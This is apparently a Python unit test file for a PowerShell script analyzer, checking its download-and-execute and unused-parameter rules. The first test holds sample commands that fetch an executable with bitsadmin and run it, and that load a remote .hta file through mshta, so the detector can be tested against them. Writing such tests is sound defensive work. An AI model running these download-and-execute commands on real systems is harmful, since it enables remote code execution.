"""Focused cases for what the long-admin independent corpus (independent_corpora/long_admin) found after
the other corpora's fixes were merged: one test per fixed miss or false finding, with a near miss."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, lines_of


def test_a_downloaded_file_is_executed_only_when_a_later_command_names_that_file() -> None:
    result = analyze(r"""
        bitsadmin /transfer job /download http://198.51.100.12/a.exe C:\Users\Public\a.exe
        mshta.exe http://198.51.100.12/run.hta
    """)
    assert lines_of(result, "PSDownloadAndExecute") == []  # `mshta.exe` ends in "a.exe" but names another file
    started = analyze(r"""
        bitsadmin /transfer job /download http://198.51.100.12/a.exe C:\Users\Public\a.exe
        Start-Process C:\Users\Public\a.exe
    """)
    assert lines_of(started, "PSDownloadAndExecute") == [1]


def test_a_parameter_read_where_the_parser_gave_up_is_used() -> None:
    result = analyze("""
        param(
            [string[]]$ServiceName = @('Spooler'),
            [int]$MaxRestarts = 3,
            [int]$Unused = 1
        )
        foreach ($name in $ServiceName) {
            if (($name -ne 'x' -and $name -ne 'y' {
                if ($count -gt $MaxRestarts) { continue }
            }
        }
    """)
    assert lines_of(result, "PSParseError")  # the broken condition
    assert lines_of(result, "PSReviewUnusedParameter") == [4]


def test_foreach_object_blocks_after_parameter_values_count_as_the_scope_s_uses() -> None:
    result = analyze("""
        param([int[]]$Ports = @(443), [int]$Parallel = 4, [string]$Other)
        $sites | ForEach-Object -ThrottleLimit $Parallel -Parallel {
            Write-Verbose "ports $($Ports -join ',')"
        }
        Invoke-Command -ComputerName $env:COMPUTERNAME -ScriptBlock { $Other }
    """)
    assert lines_of(result, "PSReviewUnusedParameter") == [1]
    assert [f.message for f in result.findings if f.rule == "PSReviewUnusedParameter"] == [
        "Parameter $Other of the script is never used."]
